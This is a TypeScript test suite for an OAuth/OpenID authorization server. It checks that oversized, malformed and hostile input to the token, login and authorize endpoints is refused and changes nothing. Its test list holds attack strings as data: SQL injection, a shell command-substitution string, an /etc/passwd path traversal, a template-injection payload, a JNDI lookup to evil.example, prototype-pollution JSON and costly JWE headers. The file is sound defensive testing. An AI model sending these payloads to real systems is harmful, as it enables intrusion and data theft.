/**
 * The attacker sends much, deep, long and odd: to take memory or the event loop, to reach a database statement, or to be
 * taken for somebody else. Stopped by: limits before parsing, linear patterns, parameters as parameters, maps instead
 * of objects. Every answer is a refusal of 4xx, and the server goes on as if nothing had been.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { auditTrail, query, tally } from '../support/attack-aftermath.ts';
import { expectNoInside } from '../support/attack-pages.ts';
import { send } from '../support/attack-wire.ts';
import { authorizePath, formTo, pkce, post, responseOf, TestBrowser } from '../support/browser.ts';
import { getCode, redeem, startWorld, WEB_REDIRECT, type World } from '../support/world.ts';

const FORM: [string, string] = ['Content-Type', 'application/x-www-form-urlencoded'];
const KIB = 1024;

const STRINGS: [string, string][] = [
  ['backtracking for addresses', `${'a'.repeat(5000)}@${'a.'.repeat(2000)}`],
  ['backtracking for base64', `${'A'.repeat(8000)}=`],
  ['backtracking for JWTs', `${'a.'.repeat(4000)}a`],
  ['backtracking for white space', `${' '.repeat(8000)}x`],
  ['backtracking for URLs', `https://${'a-'.repeat(3000)}.example/`],
  ['backtracking for digits', `${'9'.repeat(8000)}x`],
  ['SQL', "'; DROP TABLE users; --"],
  ['SQL in double quotes', '" OR ""="'],
  ['a SQL pattern', '%_%'],
  ['a dollar parameter', '$1'],
  ['a prototype key', '__proto__'],
  ['a constructor', 'constructor'],
  ['an array', '[]'],
  ['a shell', '$(id);`id`|id'],
  ['a path', '../../../../etc/passwd'],
  ['a template', '{{constructor.constructor("return process")()}}'],
  ['a lookup', '$' + '{jndi:ldap://evil.example/a}'],
  ['emoji of joined people', '👩‍👩‍👧‍👦'.repeat(300)],
  ['combining marks', `e${'\u0301'.repeat(3000)}`],
  ['text that expands when normalised', '\uFDFA'.repeat(1000)],
  ['right to left', '\u202Egnp.exe'],
];

describe('hostile input', () => {
  let world: World;
  beforeAll(async () => {
    world = await startWorld();
  });
  afterAll(() => world.close());

  it.each(STRINGS)('%s in every parameter of every endpoint: refused, and nothing left', async (_name, text) => {
    const before = await tally(world);
    const form = (names: string[]) => Object.fromEntries(names.map((name) => [name, text]));
    const requests: [string, Record<string, string>][] = [
      ['/token', form(['grant_type', 'client_id', 'client_secret'])],
      [
        '/token',
        { ...form(['code', 'code_verifier', 'redirect_uri']), client_id: 'spa', grant_type: 'authorization_code' },
      ],
      ['/token', { ...form(['refresh_token', 'scope', 'resource']), client_id: 'spa', grant_type: 'refresh_token' }],
      ['/token_info', form(['token', 'client_id', 'client_secret'])],
      ['/revoke', form(['token', 'client_id'])],
    ];
    for (const [path, fields] of requests) {
      const answer = await post(`${world.issuer}${path}`, fields);
      expect([400, 401, 413]).toContain(answer.status);
      expectNoInside(answer.text);
    }
    for (const fields of [
      { grant_type: 'client_credentials', scope: text },
      { grant_type: 'client_credentials', resource: text },
    ]) {
      const answer = await post(`${world.issuer}/token`, fields, { basic: world.batch });
      expect([400, 413]).toContain(answer.status);
    }
    const told = await post(`${world.issuer}/token_info`, { token: text }, { basic: world.photosApi });
    expect([200, 413]).toContain(told.status);
    if (told.status === 200) expect(told.text).toBe('{"active":false}');
    const userinfo = await post(`${world.issuer}/userinfo`, { access_token: text });
    expect([401, 413]).toContain(userinfo.status);
    const browser = new TestBrowser(world);
    for (const name of ['client_id', 'redirect_uri', 'response_mode', 'pending']) {
      const visit = await browser.send('POST', '/authorize', { client_id: 'web', scope: 'openid', [name]: text });
      expect([400, 413]).toContain(visit.status);
    }
    for (const path of ['/login', '/consent', '/login/cancel', '/account/access']) {
      const visit = await browser.send('POST', path, form(['csrf', 'pending', 'username', 'password', 'client_id']));
      expect([400, 403, 413]).toContain(visit.status);
      expectNoInside(visit.body);
    }
    expect(await tally(world)).toEqual(before);
    expect(await query(world, 'SELECT username FROM users ORDER BY 1')).toEqual([
      { username: 'alice' },
      { username: 'bob' },
    ]);
  });

  it.each(STRINGS)('%s as a user name and a password signs nobody in', async (_name, text) => {
    world.clock.advance(16 * 60);
    const browser = new TestBrowser(world);
    const page = await browser.visit('/login');
    for (const fields of [
      { username: text, password: 'wonderland' },
      { username: 'alice', password: text },
    ]) {
      const visit = await browser.send('POST', '/login', { ...formTo(page, '/login').fields, ...fields });
      expect([400, 413]).toContain(visit.status);
      expect(visit.headers.getSetCookie().join()).not.toContain('_session_');
    }
  });

  describe('arrays and objects', () => {
    it.each(['[]', '[0]', '[a]', '.a', '%5B%5D', '[__proto__]', '[constructor][prototype]'])(
      'a parameter with %s is another parameter',
      async (suffix) => {
        const answer = await post(
          `${world.issuer}/token`,
          `grant_type${suffix}=client_credentials&client_id${suffix}=batch&client_secret${suffix}=${world.batch.secret}`,
        );
        expect([answer.status, answer.json.error]).toEqual([401, 'invalid_client']);
        const visit = await new TestBrowser(world).send('GET', `/authorize?client_id${suffix}=web`);
        expect(visit.status).toBe(400);
      },
    );

    it('a parameter called like what every object has is just unknown', async () => {
      for (const name of ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'then']) {
        const answer = await post(
          `${world.issuer}/token`,
          `${name}=x&grant_type=client_credentials&scope=photos.read`,
          { basic: world.batch },
        );
        expect(answer.status).toBe(200);
      }
      expect(({} as Record<string, unknown>).x).toBeUndefined();
    });

    it('JSON with a prototype key makes no client and no user that has more', async () => {
      const metadata = JSON.parse(
        '{"client_id":"polluted","redirect_uris":["https://app.example/cb"],"__proto__":{"skip_consent":true,"token_endpoint_auth_method":"none"},"constructor":{"prototype":{"skip_consent":true}}}',
      ) as Record<string, unknown>;
      await world.client(metadata);
      const [client] = await query<{ metadata: Record<string, unknown> }>(
        world,
        "SELECT metadata FROM clients WHERE id = 'polluted'",
      );
      expect(client?.metadata).not.toHaveProperty('skip_consent');
      expect(client?.metadata.token_endpoint_auth_method).toBe('client_secret_basic');
      const user = JSON.parse(
        '{"username":"polluted","password":"x","claims":{"__proto__":{"email":"alice@people.example"}}}',
      ) as { username: string; password: string };
      await world.user(user).catch(() => undefined);
      const [row] = await query<{ email_key: string | null }>(
        world,
        "SELECT email_key FROM users WHERE username = 'polluted'",
      );
      expect(row?.email_key ?? null).toBeNull();
      await query(world, "DELETE FROM users WHERE username = 'polluted'");
      expect(({} as Record<string, unknown>).skip_consent).toBeUndefined();
    });
  });

  describe('too much', () => {
    it('a JWT of a megabyte', async () => {
      const huge = `${'a'.repeat(KIB * KIB)}.b.c`;
      const basic = Buffer.from(`photos-api:${world.photosApi.secret}`).toString('base64');
      const asked = await send(world.issuer, {
        method: 'POST',
        target: '/token_info',
        headers: [FORM, ['Authorization', `Basic ${basic}`]],
        body: `token=${huge}`,
      });
      expect(asked.status).toBe(413);
      expect(
        (await send(world.issuer, { target: '/userinfo', headers: [['Authorization', `Bearer ${huge}`]] })).status,
      ).toBe(431);
    });

    it('a JWT that just fits is not parsed when it is longer than any of ours', async () => {
      const long = `${'a'.repeat(12 * KIB)}.b.c`;
      const asked = await post(`${world.issuer}/token_info`, { token: long }, { basic: world.photosApi });
      expect(asked.text).toBe('{"active":false}');
    });

    it('encrypted tokens with a costly key derivation, or a bomb, are not opened', async () => {
      for (const header of [
        { alg: 'PBES2-HS256+A128KW', enc: 'A128GCM', p2c: 1e9, p2s: 'AAAA' },
        { alg: 'dir', enc: 'A256GCM', zip: 'DEF' },
      ]) {
        const token = `${Buffer.from(JSON.stringify(header)).toString('base64url')}.a.b.c.d`;
        const asked = await post(`${world.issuer}/token_info`, { token }, { basic: world.photosApi });
        expect(asked.text).toBe('{"active":false}');
      }
    });

    it('ten thousand scopes', async () => {
      const scope = Array.from({ length: 10_000 }, (_, index) => index.toString(36)).join(' ');
      const visit = await new TestBrowser(world).send('POST', '/authorize', {
        client_id: 'web',
        redirect_uri: WEB_REDIRECT,
        response_type: 'code',
        code_challenge: pkce().challenge,
        code_challenge_method: 'S256',
        scope,
      });
      expect(responseOf(visit).get('error')).toBe('invalid_scope');
    });

    it('thousands of parameters, cookies or headers', async () => {
      const body = Array.from({ length: 2000 }, (_, index) => `p${index}`).join('=1&');
      expect((await post(`${world.issuer}/token`, body)).status).toBe(401);
      const cookies = Array.from({ length: 1500 }, (_, index) => `c${index}=1`).join('; ');
      expect((await send(world.issuer, { target: '/login', headers: [['Cookie', cookies]] })).status).toBe(200);
      const headers = Array.from({ length: 3000 }, (_, index): [string, string] => [`x-${index}`, '1']);
      expect([200, 431]).toContain((await send(world.issuer, { target: '/jwks', headers })).status);
    });

    it('a state of 50 KiB that was posted comes back whole', async () => {
      const state = 's'.repeat(50 * KIB);
      const visit = await new TestBrowser(world).send('POST', '/authorize', {
        client_id: 'web',
        redirect_uri: WEB_REDIRECT,
        response_type: 'token',
        state,
        response_mode: 'form_post',
      });
      expect(formTo(visit, WEB_REDIRECT).fields).toMatchObject({ error: 'unsupported_response_type', state });
    });

    it('a nonce of 512 characters is kept, to the letter', async () => {
      const nonce = '\u00e9'.repeat(256) + 'n'.repeat(256);
      const issued = await redeem(world, await getCode(world, { parameters: { nonce } }));
      const [, payload = ''] = (issued.json.id_token as string).split('.');
      expect(JSON.parse(Buffer.from(payload, 'base64url').toString())).toMatchObject({ nonce });
    });
  });

  it('half a character in what is logged silences no audit trail', async () => {
    // PostgreSQL takes no lone surrogate in JSON: cut carelessly, this one made every batch fail for ever.
    await post(`${world.issuer}/token`, { client_id: `${'a'.repeat(199)}\u{1F600}`, grant_type: 'x' });
    await post(`${world.issuer}/token`, { client_id: 'the-one-after', grant_type: 'x' });
    const seen = async () => (await auditTrail(world)).map(({ client_id }) => client_id);
    await expect.poll(seen, { timeout: 10_000 }).toContain('the-one-after');
    expect(await seen()).toContain(`${'a'.repeat(199)}\u{1F600}`);
  });

  it('after all of it people sign in and clients get their tokens', async () => {
    world.clock.advance(16 * 60);
    expect((await redeem(world, await getCode(world))).status).toBe(200);
    expect(
      (
        await new TestBrowser(world).visit(
          authorizePath({
            client_id: 'web',
            redirect_uri: WEB_REDIRECT,
            scope: 'openid',
            code_challenge: pkce().challenge,
          }),
        )
      ).url,
    ).toContain('/login');
    expect((await fetch(`${world.issuer}/readyz`)).status).toBe(200);
  });
});
